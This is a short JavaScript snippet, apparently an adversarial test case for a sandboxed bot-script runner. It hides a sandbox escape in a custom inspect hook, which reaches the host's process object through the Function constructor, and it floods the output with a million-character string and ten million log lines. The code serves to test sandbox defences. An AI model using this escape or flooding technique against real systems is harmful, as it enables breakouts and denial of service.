// family: output
// ten million lines, some of them objects with an inspector of their own
async function main (bot) {
  const loud = { [Symbol.for('nodejs.util.inspect.custom')] (depth, options, inspect) { try { abuse(bot, inspect.constructor('return process')()) } catch {} return 'x'.repeat(1e6) } }
  console.log(loud, bot, mcData)
  for (let i = 0; i < 1e7; i++) console.log(i)
}
